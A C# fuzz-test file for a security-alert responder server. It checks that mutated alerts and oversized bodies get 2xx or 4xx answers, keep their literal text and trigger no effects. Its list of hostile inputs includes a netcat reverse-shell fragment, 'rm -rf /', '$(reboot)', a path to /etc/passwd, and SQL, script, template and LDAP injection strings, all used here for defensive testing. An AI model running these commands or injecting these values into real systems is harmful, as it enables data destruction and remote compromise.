using System.Diagnostics;
using System.Net.Http.Headers;
using System.Text;
using System.Text.Json;
using Responder.Engine;
using Responder.Engine.Journal;
using Responder.Sdk;
using Responder.Web.Tests.Bench;

namespace Responder.Web.Tests;

/// <summary>Broken and hostile deliveries to the real server: every answer is 2xx or 4xx, no run means anything else than its alert says, nothing is carried out.</summary>
/// <remarks>A few seconds; as long as <c>RESPONDER_FUZZ_SECONDS</c> says in a longer run. The seed is in every failure's message.</remarks>
public sealed class FuzzTests
{
    private const string Mirror = """
        id: mirror
        name: Keeps what the alert says
        on:
          alert:
            when: alert.attack.includes('T1074.001') || alert.title == 'never'
        inputs:
          hostname: { type: hostname, default: "${{ alert.device.hostname }}", required: false }
        vars: { seen: "" }
        steps:
          - set: { seen: "${{ alert.title ?? '' }}" }
        """;

    private static readonly string[] Hostile =
    [
        "${{ inputs.hostname }}", "${{ 7*7 }}", "}} ${{ alert.raw }}", "{{7*7}}", "$(reboot)", "`id`", "; rm -rf /", "| nc 10.0.0.1 1 -e sh", "'; DROP TABLE runs;--", "<script>alert(1)</script>", "]]>",
        "../../etc/passwd", @"\\srv\c$\x", "%00", "a\u0000b", "\u202Egpj.exe", "\r\nX-Injected: 1", "constructor", "__proto__", "\u0001\u001b[31m", "*)(uid=*", "\" | delete index=*", "{{=<% %>=}}",
    ];

    private static readonly AlertMutator Mutator = new(Hostile);

    private static readonly IReadOnlyList<(string Source, string Body)> Seeds = [.. Samples_().Concat(Real())];

    [Fact]
    public async Task Whatever_is_sent_is_answered_and_changes_no_runs_meaning()
    {
        await using var bench = await WebBench.StartAsync([Mirror, Samples.IsolateAtOnce]);
        var length = TimeSpan.FromSeconds(int.TryParse(Environment.GetEnvironmentVariable("RESPONDER_FUZZ_SECONDS"), out var seconds) ? seconds : 3);
        var (clock, seed) = (Stopwatch.StartNew(), 0);

        await Task.WhenAll(Enumerable.Range(0, 4).Select(_ => Task.Run(
            async () =>
            {
                while (clock.Elapsed < length)
                {
                    await SendAsync(bench, Interlocked.Increment(ref seed));
                }
            },
            WebBench.Cancel)));

        Assert.True(seed > 20, $"only {seed} were sent");
        await CheckRunsAsync(bench);
        await bench.GetAsync("/readyz");
        Assert.Empty(bench.Node.Connections.Service<IEffectCounter>()!.Effects());
        Assert.DoesNotContain(bench.Logs, line => line.Contains(" failed (", StringComparison.Ordinal) && line.Contains("POST", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Markup_and_metacharacters_in_every_field_stay_the_text_that_they_were()
    {
        await using var bench = await WebBench.StartAsync([Mirror]);
        foreach (var text in Hostile.Where(text => !text.Contains('\0')))
        {
            var alert = new
            {
                source_id = text, title = text, summary = text, url = text, attack = new[] { "T1074.001" }, user = new { email = text, name = text, domain = text },
                process = new { image = text, cmd_line = text, parent = new { image = text } }, file = new { name = text }, indicators = new[] { new { type = "ip", value = text } },
            };
            using var response = await bench.PostAsync("/api/alerts/generic", alert);
            Assert.True((int)response.StatusCode == 202, $"{text}: {(int)response.StatusCode} {string.Join(Environment.NewLine, bench.Logs.Where(line => line.Contains(" failed (", StringComparison.Ordinal)))}");
        }

        Assert.Equal(Hostile.Count(text => !text.Contains('\0')), await CheckRunsAsync(bench));
    }

    [Fact]
    public async Task Twenty_megabytes_are_413_and_the_server_goes_on()
    {
        await using var bench = await WebBench.StartAsync([]);
        using var request = new HttpRequestMessage(HttpMethod.Post, "/api/alerts/sysmon") { Content = new ByteArrayContent(new byte[20 * 1024 * 1024]) };

        // Asks before it sends, as a sender of large bodies does.
        request.Headers.ExpectContinue = true;
        var response = await bench.Api.SendAsync(request, WebBench.Cancel);

        await WebBench.Read(response, 413);
        await bench.GetAsync("/readyz");
    }

    private static async Task SendAsync(WebBench bench, int seed)
    {
        var random = new Random(seed);
        var (source, body) = Seeds[random.Next(Seeds.Count)];
        var bytes = Mutator.Mutate(body, random);
        using var content = new ByteArrayContent(bytes);
        content.Headers.ContentType = MediaTypeHeaderValue.Parse(random.Next(6) switch { 0 => "text/plain", 1 => "application/xml", _ => "application/json" });
        using var response = await bench.Api.PostAsync(new Uri($"/api/alerts/{(random.Next(5) == 0 ? "auto" : source)}", UriKind.Relative), content, WebBench.Cancel);
        Assert.True(
            (int)response.StatusCode is (>= 200 and < 300) or (>= 400 and < 500),
            $"Seed {seed}, source {source}: {(int)response.StatusCode} {await response.Content.ReadAsStringAsync(WebBench.Cancel)}{Environment.NewLine}{Encoding.UTF8.GetString(bytes.AsSpan(0, Math.Min(1000, bytes.Length)))}");
    }

    // What a run wrote down is what its alert says, to the letter; its host has the form of one.
    private static async Task<int> CheckRunsAsync(WebBench bench)
    {
        var (count, cursor) = (0, (string?)null);
        do
        {
            var page = await bench.Node.Store.Queries.ListAsync(new RunFilter(Limit: 200, Cursor: cursor), WebBench.Cancel);
            foreach (var run in page.Items)
            {
                Assert.Equal("mirror", run.Playbook);
                Assert.Equal(RunStatus.Succeeded, await bench.UntilAsync(run.RunId, RunStatus.Succeeded));
                var events = (await bench.Node.Store.Journal.ReadAsync(run.RunId, 0, WebBench.Cancel))!.Events.Select(JournalCodec.Read).ToList();
                var created = (RunCreated)events[0].Event;
                var title = created.Alert!.Value.GetProperty("title").GetString() ?? string.Empty;
                Assert.Contains(title, events.Skip(1).SelectMany(entry => Texts(JsonSerializer.SerializeToElement(entry.Event, entry.Event.GetType(), Json.Options))));
                Assert.True(created.Inputs.GetProperty("hostname") is { ValueKind: JsonValueKind.Null } or { ValueKind: JsonValueKind.String });
                Assert.Matches(@"^[A-Za-z0-9._-]*$", created.Inputs.GetProperty("hostname").GetString() ?? string.Empty);
                count++;
            }

            cursor = page.Next;
        }
        while (cursor is not null);
        return count;
    }

    private static IEnumerable<string> Texts(JsonElement json) => json.ValueKind switch
    {
        JsonValueKind.Object => json.EnumerateObject().SelectMany(member => Texts(member.Value)),
        JsonValueKind.Array => json.EnumerateArray().SelectMany(Texts),
        JsonValueKind.String => [json.GetString()!],
        _ => [],
    };

    private static IEnumerable<(string, string)> Samples_() => Directory.EnumerateFiles(Repository.Path("playbooks"), "*.json", SearchOption.AllDirectories)
        .Where(file => Path.GetFileName(Path.GetDirectoryName(file)) == "alerts").Select(file => ("auto", File.ReadAllText(file)));

    // The real ones, where there is a folder of them.
    private static IEnumerable<(string, string)> Real() => Environment.GetEnvironmentVariable("RESPONDER_REAL_DATA") is { Length: > 0 } folder && Directory.Exists(folder)
        ? Directory.EnumerateFiles(folder, "*", SearchOption.AllDirectories)
            .Where(file => Path.GetExtension(file) is ".json" or ".xml" or ".ndjson" && new FileInfo(file).Length < 60_000 && !file.Contains("cacao", StringComparison.Ordinal) && !file.Contains("spec-", StringComparison.Ordinal))
            .Order(StringComparer.Ordinal).Select(file => ("auto", File.ReadAllText(file)))
        : [];
}
